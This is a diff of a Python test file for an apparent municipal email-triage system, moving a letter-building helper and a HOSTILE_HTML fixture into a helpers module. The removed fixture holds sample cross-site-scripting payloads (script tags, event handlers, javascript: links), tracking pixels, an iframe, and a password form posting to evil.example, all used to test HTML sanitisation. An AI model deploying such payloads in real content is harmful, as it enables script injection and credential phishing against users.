@@ -12,12 +12,11 @@ from __future__ import annotations
 import datetime as dt
 import mailbox
 import re
-from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
 
 import pytest
-from helpers import race
+from helpers import HOSTILE_HTML, letter, race
 from sqlalchemy import select
 from sqlalchemy.orm import Session, sessionmaker
 from test_console import (  # noqa: F401 (fixtures)
@@ -57,42 +56,11 @@ MISSED = (
     "Hello,\n\nOur garbage was not picked up on Tuesday at 14 Birch Crescent, Pinecrest. The bags were out by "
     "7 a.m. as usual. Please come back for it.\n\nThanks,\nPriya Raman\n905-555-0134",
 )
-HOSTILE_HTML = (
-    "<p>Thank you to the crew who cleared the snow on Mill Street.</p>"
-    "<script>window.pwned = true</script>"
-    '<img src="http://tracker.example/pixel.gif" onerror="window.pwned = true">'
-    '<a href="javascript:window.pwned = true">see photos</a> '
-    '<a href="https://www.northvale.ca/snow" onclick="window.pwned = true">snow routes</a>'
-    '<iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input name="password"></form>'
-    '<div style="background: url(http://tracker.example/bg.gif)">Styled words</div>'
-)
 
 
 @pytest.fixture(scope="module")
 def triage(models_dir: Path) -> TriageModel:
     return load_model(models_dir / "triage")
-
-
-def letter(
-    subject: str,
-    body: str,
-    message_id: str,
-    *,
-    sender: str = "Priya Raman <priya.raman@example.org>",
-    html: str | None = None,
-    attachment: tuple[str, bytes] | None = None,
-) -> bytes:
-    message = EmailMessage()
-    message["From"] = sender
-    message["To"] = "servicefirst@northvale.ca"
-    message["Subject"] = subject
-    message["Message-ID"] = message_id
-    message.set_content(body)
-    if html is not None:
-        message.add_alternative(html, subtype="html")
-    if attachment is not None:
-        message.add_attachment(attachment[1], maintype="image", subtype="jpeg", filename=attachment[0])
-    return message.as_bytes().replace(b"\n", b"\r\n")
 
 
 def ingest(
